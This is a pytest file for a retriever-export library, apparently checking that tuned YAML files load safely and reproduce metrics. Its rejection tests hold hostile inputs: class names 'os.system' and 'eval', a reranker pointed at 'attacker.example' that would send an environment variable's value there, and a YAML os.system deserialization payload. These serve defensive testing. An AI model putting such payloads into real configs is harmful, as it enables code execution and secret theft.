"""Export a tuned retriever and load it in production without hydra: same results, safely."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import shared_data_env

from retrievers import Document, TunedFileError, load_tuned
from retrievers.builders import build_store
from viking_eval.config import load_settings
from viking_eval.config.compose import compose_config, hydra_session
from viking_eval.measures.metrics import evaluate, parse_metrics
from viking_eval.run.experiment import run_experiment
from viking_eval.sweep.export import ExportError, export

REPO = Path(__file__).resolve().parents[1]

FRESH_PROCESS = r"""
import json, sys
from retrievers import load_tuned
from viking_eval.data import load_dataset
dataset = load_dataset(sys.argv[2])
retriever = load_tuned(sys.argv[1], documents=dataset.corpus.values())
queries = list(dataset.queries.values())
results = retriever.retrieve_batch([q.text for q in queries], 100)
run = {q.id: {r.doc_id: r.score for r in rs} for q, rs in zip(queries, results)}
print(json.dumps({"run": run, "hydra": "hydra" in sys.modules, "omegaconf": "omegaconf" in sys.modules}))
"""


@pytest.fixture(scope="module")
def smoke_run(shared_datasets: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    from omegaconf import OmegaConf

    with shared_data_env(shared_datasets), hydra_session():
        cfg = compose_config(["experiment=smoke", "run.latency.n_queries=0"])
        out = tmp_path_factory.mktemp("run")
        run_experiment(load_settings(cfg), out, config_yaml=OmegaConf.to_yaml(cfg, resolve=True))
    return out


@pytest.mark.needs_data
@pytest.mark.parametrize("retriever", ["bm25", "dense"])
def test_load_tuned_in_fresh_process_reproduces_metrics(
    retriever: str, smoke_run: Path, tmp_path: Path, shared_datasets: Path
) -> None:
    path = export(smoke_run, f"smoke-{retriever}", retriever=retriever, out_dir=tmp_path)
    document = yaml.safe_load(path.read_text())
    assert (
        document["provenance"]["dataset"] == "adi" and document["provenance"]["tuned_on"]["split"] == "test"
    )
    assert document["embedder"]["name"].startswith("tfidf-svd:")
    done = subprocess.run(
        [sys.executable, "-c", FRESH_PROCESS, str(path), str(shared_datasets / "adi")],
        capture_output=True,
        text=True,
        check=True,
        cwd=REPO,
    )
    payload = json.loads(done.stdout.strip().splitlines()[-1])
    assert payload["hydra"] is False and payload["omegaconf"] is False
    from viking_eval.data import load_dataset

    dataset = load_dataset(str(shared_datasets / "adi"))
    metrics = parse_metrics(["nDCG@10", "R@10", "R@100", "RR@10", "AP@100"])
    reproduced = evaluate(payload["run"], dataset.qrels, metrics).aggregate
    expected = json.loads((smoke_run / "metrics.json").read_text())["retrievers"][retriever]["metrics"]
    assert reproduced == expected  # exactly


@pytest.mark.needs_data
def test_export_picks_best_retriever_by_metric(smoke_run: Path, tmp_path: Path) -> None:
    document = yaml.safe_load(export(smoke_run, "best", out_dir=tmp_path).read_text())
    scores = json.loads((smoke_run / "metrics.json").read_text())["retrievers"]
    best = max(scores, key=lambda name: scores[name]["metrics"]["nDCG@10"])
    assert document["retriever"]["class"] == {"bm25": "BM25Retriever", "dense": "DenseRetriever"}[best]


def test_export_bad_folder(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="neither a run folder"):
        export(tmp_path, "x", out_dir=tmp_path)


def _tuned(tmp_path: Path, **changes: object) -> Path:
    document = {
        "format": 1,
        "retriever": {"class": "BM25Retriever", "params": {}},
        "embedder": {"class": "TfidfEmbedder", "params": {"dim": 4}, "name": None},
        "store": {"bm25": {"k1": 0.9, "b": 0.4}},
    }
    document.update(changes)
    path = tmp_path / "tuned.yaml"
    path.write_text(yaml.safe_dump(document))
    return path


DOCS = [Document("a", "red fox jumps"), Document("b", "blue whale swims"), Document("c", "green frog leaps")]


def test_load_tuned_works_on_a_minimal_file(tmp_path: Path) -> None:
    retriever = load_tuned(_tuned(tmp_path), documents=DOCS)
    assert [r.doc_id for r in retriever.retrieve("whale", 3)] == ["b"]


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            {"retriever": {"class": "os.system", "params": {}}},
            r"'os.system' is not a tunable retriever; allowed: \[",
        ),
        ({"retriever": {"class": "ContextStore", "params": {}}}, "'ContextStore' is not a tunable retriever"),
        ({"embedder": {"class": "eval", "params": {}}}, "'eval' is not a tunable embedder"),
        (
            {"retriever": {"class": "DenseRetriever", "params": {"query_batch_size": 0}}},
            r"retriever: query_batch_size must be an integer in \[1, 65536\], got 0",
        ),
        (
            {"retriever": {"class": "DenseRetriever", "params": {"colour": 1}}},
            r"unknown key\(s\) \['colour'\]",
        ),
        (
            {
                "retriever": {"class": "DenseRetriever", "params": {}},
                "embedder": {"class": "TfidfEmbedder", "params": {"dim": 4}, "name": "tfidf-svd:other"},
            },
            "fingerprint differs",
        ),
        ({"format": 99}, "format 99 is not supported"),
        (
            {"embedder": {"class": "SentenceTransformerEmbedder", "params": {"device": "cuda:7"}}},
            r"embedder.params \['device'\] cannot come from a tuned file",
        ),
        # the security case: a tuned file must not choose an endpoint and the environment variable
        # whose value is sent to it
        (
            {
                "retriever": {
                    "class": "BM25Retriever",
                    "params": {
                        "reranker": {
                            "class": "LLMReranker",
                            "params": {
                                "base_url": "http://attacker.example",
                                "model": "m",
                                "api_key_env": "HOME",
                            },
                        }
                    },
                }
            },
            "'LLMReranker' cannot be built from a tuned file",
        ),
        (
            {
                "store": {
                    "edges": {
                        "llm": {"base_url": "http://attacker.example", "model": "m", "api_key_env": "HOME"}
                    }
                }
            },
            "store.edges.llm calls an LLM endpoint while building",
        ),
    ],
)
def test_load_tuned_rejects_bad_files(tmp_path: Path, changes: dict[str, object], message: str) -> None:
    with pytest.raises(TunedFileError, match=message):
        load_tuned(_tuned(tmp_path, **changes), documents=DOCS)


def test_a_bm25_tuned_file_demands_no_embedder(tmp_path: Path) -> None:
    # tuned elsewhere: its TF-IDF fingerprint is of another corpus, and BM25 never uses it
    path = _tuned(
        tmp_path, embedder={"class": "TfidfEmbedder", "params": {"dim": 4}, "name": "tfidf-svd:other"}
    )
    retriever = load_tuned(path, documents=DOCS)
    assert not retriever.store.has_vectors  # type: ignore[attr-defined]
    assert [r.doc_id for r in retriever.retrieve("frog", 3)] == ["c"]


def test_documents_may_be_beir_mappings_and_nothing_else(tmp_path: Path) -> None:
    path = _tuned(tmp_path)
    plain = [{"_id": d.id, "title": d.title, "text": d.text} for d in DOCS]
    assert load_tuned(path, documents=plain).retrieve("whale", 3) == load_tuned(
        path, documents=DOCS
    ).retrieve("whale", 3)
    with pytest.raises(TunedFileError, match=r"documents\[1\] must be a retrievers.Document or a mapping"):
        load_tuned(path, documents=[plain[0], {"id": "b", "text": "x"}])
    with pytest.raises(TunedFileError, match="documents is empty"):
        load_tuned(path, documents=[])
    with pytest.raises(TunedFileError, match=r"exactly one of documents= .* or store="):
        load_tuned(path)


def test_store_built_once_saved_loaded_and_checked_against_the_tuned_settings(tmp_path: Path) -> None:
    from retrievers import ContextStore, StoreConfig, build_tuned_store

    path = _tuned(tmp_path, retriever={"class": "DenseRetriever", "params": {}})
    built = build_tuned_store(path, DOCS)
    built.save(tmp_path / "store")
    store = ContextStore.load(tmp_path / "store")
    # TF-IDF is refitted on the store's own documents (no embedder= needed, no NotFittedError)
    served = load_tuned(path, store=store)
    assert served.retrieve("blue whale", 3) == load_tuned(path, documents=DOCS).retrieve("blue whale", 3)
    other = build_store(DOCS, None, StoreConfig.from_dict({"bm25": {"k1": 1.2, "b": 0.4}}))
    bm25_path = _tuned(tmp_path)
    with pytest.raises(TunedFileError, match=r"built with other settings than the tuned ones .*store.bm25"):
        load_tuned(bm25_path, store=other)
    assert load_tuned(bm25_path, store=other, allow_store_mismatch=True).retrieve("frog", 1)[0].doc_id == "c"


def test_load_tuned_missing_fields(tmp_path: Path) -> None:
    path = tmp_path / "tuned.yaml"
    path.write_text(yaml.safe_dump({"format": 1, "retriever": {"class": "BM25Retriever"}}))
    with pytest.raises(TunedFileError, match=r"missing field\(s\) \['embedder', 'store'\]"):
        load_tuned(path, documents=DOCS)


def test_load_tuned_never_constructs_python_objects(tmp_path: Path) -> None:
    path = tmp_path / "tuned.yaml"
    path.write_text(
        "format: 1\nretriever: !!python/object/apply:os.system ['echo pwned']\nembedder: {}\nstore: {}\n"
    )
    with pytest.raises(TunedFileError, match="cannot read tuned file"):
        load_tuned(path, documents=DOCS)


def test_mismatch_allowed_when_asked(tmp_path: Path) -> None:
    path = _tuned(
        tmp_path, embedder={"class": "TfidfEmbedder", "params": {"dim": 4}, "name": "tfidf-svd:other"}
    )
    retriever = load_tuned(path, documents=DOCS, allow_embedder_mismatch=True)
    assert retriever.retrieve("frog", 1)[0].doc_id == "c"
